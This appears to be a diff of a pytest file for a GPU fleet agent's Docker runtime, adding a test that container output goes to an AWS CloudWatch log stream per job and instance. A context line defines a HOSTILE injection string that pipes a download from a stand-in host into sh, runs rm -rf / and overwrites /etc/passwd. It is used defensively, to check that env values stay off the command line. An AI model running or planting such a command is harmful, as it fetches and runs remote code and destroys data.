@@ -12,7 +12,13 @@ from typing import Any
 
 import pytest
 
-from gpufleet.agent.docker import DockerRuntime, docker_argv, looks_like_gpu_oom, relay
+from gpufleet.agent.docker import (
+    ContainerLogs,
+    DockerRuntime,
+    docker_argv,
+    looks_like_gpu_oom,
+    relay,
+)
 from gpufleet.agent.node import (
     MAX_JOB_METRICS,
     JobMetrics,
@@ -21,7 +27,12 @@ from gpufleet.agent.node import (
     RunOutcome,
     parse_job_metric_line,
 )
-from gpufleet.topology import DETAIL_NODE_FINISHED, DETAIL_NODE_HEARTBEAT, DETAIL_NODE_STARTED
+from gpufleet.topology import (
+    DETAIL_NODE_FINISHED,
+    DETAIL_NODE_HEARTBEAT,
+    DETAIL_NODE_STARTED,
+    agent_log_stream,
+)
 
 HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"
 
@@ -48,6 +59,16 @@ def test_docker_gets_argv_as_a_list_and_env_values_never_on_the_command_line() -
     # Env values are not in argv at all: docker reads them from its own environment.
     assert not any(HOSTILE in arg for arg in argv[:separator])
     assert argv[argv.index("MODE") - 1 : argv.index("MODE") + 1] == ["-e", "MODE"]
+
+
+def test_the_container_output_goes_to_the_agent_log_group_one_stream_per_job_and_instance() -> None:
+    logs = ContainerLogs("/gpufleet/agent", "us-east-1", "i-0abc")
+    argv = docker_argv(manifest(), logs)
+    options = argv[: argv.index("--")]
+    assert options[options.index("--log-driver") + 1] == "awslogs"
+    assert {"awslogs-region=us-east-1", "awslogs-group=/gpufleet/agent"} <= set(options)
+    assert f"awslogs-stream={agent_log_stream('j-0123456789abcdef0123', 'i-0abc')}" in options
+    assert "--log-driver" not in docker_argv(manifest())  # no log group: Docker's default
 
 
 @dataclass
